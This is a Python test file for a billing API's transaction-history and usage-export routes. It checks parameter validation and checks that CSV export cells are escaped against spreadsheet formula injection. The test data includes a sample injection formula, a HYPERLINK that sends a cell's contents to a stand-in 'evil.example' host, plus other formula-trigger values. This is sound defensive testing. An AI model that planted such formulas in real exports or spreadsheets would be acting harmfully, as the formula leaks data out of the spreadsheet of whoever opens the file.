"""History routes refuse what they cannot honour and export cells a spreadsheet cannot run."""

from __future__ import annotations

import csv
import io

import pytest
from redis.asyncio import Redis

from gate.clock import ManualClock
from gate.history import ledger
from tests.conftest import Client, auth, new_workspace
from tests.helpers import snapshot
from tests.test_ledger import add_row, ms

ROUTES = ("/v1/wallet/transactions", "/v1/usage/export")


@pytest.mark.parametrize(
    ("query", "named"),
    [
        ("office=x", "office"),
        ("type=call&ofice=x&zzz=1", "ofice, zzz"),
        ("Type=call", "Type"),
        ("type=call&type=sms", "type"),
        ("from=2027-01-01&from=2027-02-01", "from"),
    ],
)
async def test_unknown_or_repeated_parameters_are_refused(
    client: Client, query: str, named: str
) -> None:
    ws = await new_workspace(client)
    for path in ROUTES:
        resp = await client.get(f"{path}?{query}", headers=auth(ws["key"]))
        assert resp.status == 400, (path, query)
        error = (await resp.json())["error"]
        assert error["code"] == "validation_error"
        assert named in error["message"]


async def test_the_export_refuses_paging_parameters(client: Client) -> None:
    ws = await new_workspace(client)
    resp = await client.get("/v1/usage/export?limit=5", headers=auth(ws["key"]))
    assert resp.status == 400
    assert "limit" in (await resp.json())["error"]["message"]


@pytest.mark.parametrize(
    "query",
    [
        "from=2027-02-01T10:00:00&to=2027-02-01T09:59:59",
        "from=2027-02-01T10:00:00Z&to=2027-02-01T10:00:00Z",
        "from=2027-02-02&to=2027-02-01",
        "from=2027-02-01T25:00",
        "from=02/01/2027",
        "to=2027-W05",
        "min_amount_usd=1e999999",
        "min_amount_usd=Infinity",
        "max_amount_usd=1,5",
        "max_amount_usd=",
    ],
)
async def test_malformed_ranges_are_refused_and_change_nothing(
    client: Client, redis: Redis, query: str
) -> None:
    ws = await new_workspace(client)
    before = await snapshot(redis, ws["id"])
    for path in ROUTES:
        resp = await client.get(f"{path}?{query}", headers=auth(ws["key"]))
        if query == "max_amount_usd=":
            assert resp.status == 200  # an empty box in a filter form means "no filter"
            continue
        assert resp.status == 400, (path, query, await resp.text())
        assert (await resp.json())["error"]["code"] == "validation_error"
    assert await snapshot(redis, ws["id"]) == before


async def test_export_cells_cannot_run_as_formulas(client: Client, clock: ManualClock) -> None:
    clock.ms = ms("2027-04-01T00:00:00")
    ws = await new_workspace(client)
    evil = {
        "description": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "user": "-2+3",
        "group": "@cmd",
        "from": "+15550001",
        "to": "\tTAB",
    }
    await add_row(
        client,
        clock,
        ws["id"],
        "2027-04-02T10:00:00",
        -1_500_000,
        "call",
        ref="+ref",
        description=evil["description"],
        user=evil["user"],
        group=evil["group"],
        **{"from": evil["from"], "to": evil["to"]},
    )
    await add_row(
        client, clock, ws["id"], "2027-04-02T11:00:00", -1, "sms", ref="\rcr", user="plain"
    )
    resp = await client.get("/v1/usage/export", headers=auth(ws["key"]))
    table = list(csv.reader(io.StringIO(await resp.text(), newline="")))
    header = table[0]
    records = [dict(zip(header, line, strict=True)) for line in table[1:]]
    call = next(r for r in records if r["type"] == "call")
    assert call["description"] == "'" + evil["description"]
    assert call["user"] == "'-2+3"
    assert call["group"] == "'@cmd"
    assert call["from"] == "'+15550001"
    assert call["to"] == "'\tTAB"
    assert call["reference"] == "'+ref"
    # Gate's own numbers stay numbers, so the sheet can still sum them.
    assert call["amount_usd"] == "-1.500000"
    sms = next(r for r in records if r["type"] == "sms")
    assert sms["reference"] == "'\rcr"
    assert sms["user"] == "plain"
    # The JSON API is not a spreadsheet: it shows the values as they are.
    resp = await client.get("/v1/wallet/transactions?type=call", headers=auth(ws["key"]))
    row = (await resp.json())["data"][0]
    assert row["description"] == evil["description"]
    assert row["user"] == "-2+3"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("a=1", "a=1"),
        ("", ""),
        ("'quoted", "'quoted"),
    ],
)
def test_safe_cell(value: str, expected: str) -> None:
    assert ledger.safe_cell(value) == expected
